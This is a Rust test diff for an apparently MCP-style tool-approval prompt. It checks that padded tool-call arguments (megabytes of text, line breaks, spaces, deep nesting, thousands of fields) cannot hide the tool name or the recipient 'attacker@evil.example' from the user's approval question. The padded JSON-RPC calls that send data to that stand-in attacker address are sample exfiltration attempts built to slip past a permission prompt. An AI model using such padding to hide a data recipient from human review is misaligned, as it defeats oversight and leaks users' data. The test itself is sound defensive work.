@@ -23,22 +23,31 @@ const MOST_LINES: usize = 200;
 #[test]
 fn padding_does_not_push_the_receiver_out_of_sight() {
     let (house, mut terminal, mut host) = signed_in();
-    let many: Vec<_> = (0..5_000).map(|number| format!("\"x{number}\":1")).collect();
+    // A tool that leaves open which arguments there are: none of them is odd by itself.
+    let tool = json!({ "name": "post", "description": "Posts", "inputSchema": { "type": "object" } });
+    house.servers.set_faults(Faults { extra_tools: vec![tool], ..Faults::default() });
+    eventually("the new tool\u{2019}s question", || (!host.has_tool("post")).then_some(()));
+    let question = terminal.question();
+    assert!(shows(&question, "post"), "{question}");
+    terminal.answer("yes");
+    eventually("its admission", || host.has_tool("post").then_some(()));
+    let many = |count: usize| (0..count).map(|number| format!("\"x{number}\":1")).collect::<Vec<_>>().join(",");
     for (what, padding) in [
         ("two megabytes", format!("\"text\":\"{}\"", "x".repeat(2 << 20))),
         ("ten thousand line ends", format!("\"text\":\"{}\"", "\\n".repeat(10_000))),
         ("three hundred thousand spaces", format!("\"text\":\"{}\"", " ".repeat(300_000))),
         ("a deep nest", format!("\"text\":{}{}", "[".repeat(60), "]".repeat(60))),
-        ("five thousand arguments", many.join(",")),
+        ("sixty arguments", many(60)),
+        ("five thousand arguments", many(5_000)),
     ] {
         let arguments = format!("{{{padding},\"to\":\"attacker@evil.example\"}}");
         let id = what.replace(' ', "-");
         let line = format!(
-            r#"{{"jsonrpc":"2.0","id":"{id}","method":"tools/call","params":{{"name":"echo","arguments":{arguments}}}}}"#
+            r#"{{"jsonrpc":"2.0","id":"{id}","method":"tools/call","params":{{"name":"post","arguments":{arguments}}}}}"#
         );
         host.raw_line(line.as_bytes());
         let question = terminal.question();
-        for part in ["echo", "attacker@evil.example", "who receives it"] {
+        for part in ["post", "attacker@evil.example"] {
             assert!(shows(&question, part), "{what}: {part} in:\n{question}");
         }
         let lines = question.lines().count();
